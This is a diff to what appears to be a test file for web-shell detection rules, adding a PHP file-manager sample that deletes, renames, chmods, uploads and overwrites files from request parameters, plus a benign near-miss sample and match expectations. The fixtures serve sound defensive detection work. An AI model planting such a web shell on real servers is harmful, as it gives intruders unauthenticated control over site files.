@@ -45,10 +45,31 @@ PROBED_NEAR = big(
     "$p = $_GET['page'] ?? 1;\nexec('uptime', $o); echo '<pre>' . join(\"\\n\", $o) . '</pre>';\n"
 )
 
+FILEMAN = big(
+    "$path = isset($_GET['path']) ? $_GET['path'] : getcwd();\n"
+    "if (isset($_GET['del'])) unlink($path . '/' . $_GET['del']);\n"
+    "if (isset($_GET['rd'])) rmdir($path . '/' . $_GET['rd']);\n"
+    "if (isset($_POST['mode'])) chmod($path . '/' . $_POST['f'], octdec($_POST['mode']));\n"
+    "if (isset($_POST['to'])) rename($path . '/' . $_POST['f'], $path . '/' . $_POST['to']);\n"
+    "if (isset($_FILES['u'])) move_uploaded_file($_FILES['u']['tmp_name'], $path . '/x');\n"
+    "if (isset($_POST['src'])) file_put_contents($path . '/' . $_POST['f'], $_POST['src']);\n"
+    "foreach (scandir($path) as $e) echo \"<a href='?path=$path/$e'>$e</a><br>\";\n"
+    "echo '<form method=post><textarea name=src></textarea></form>';\n"
+)
+FILEMAN_NEAR = big(
+    "class MediaBrowser {\n  function show() {\n"
+    "    $path = $this->base . '/' . basename($_GET['path'] ?? '');\n"
+    "    foreach (scandir($path) as $e) echo \"<a href='?path=$e'>$e</a>\";\n"
+    "    unlink($t); rmdir($t); chmod($t, 0644); rename($t, $u); mkdir($t);\n"
+    "    echo '<textarea name=caption></textarea>';\n  }\n}\n"
+)
+
 CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_UI_CommandVarConsole", CONSOLE, True),
     ("SPAMGEAR_UI_CommandVarConsole", CONSOLE_BACKTICK, True),
     ("SPAMGEAR_UI_CommandVarConsole", CONSOLE_NEAR, False),
     ("SPAMGEAR_UI_ProbedShortVarConsole", PROBED, True),
     ("SPAMGEAR_UI_ProbedShortVarConsole", PROBED_NEAR, False),
+    ("SPAMGEAR_UI_SelfNavFileManager", FILEMAN, True),
+    ("SPAMGEAR_UI_SelfNavFileManager", FILEMAN_NEAR, False),
 ]
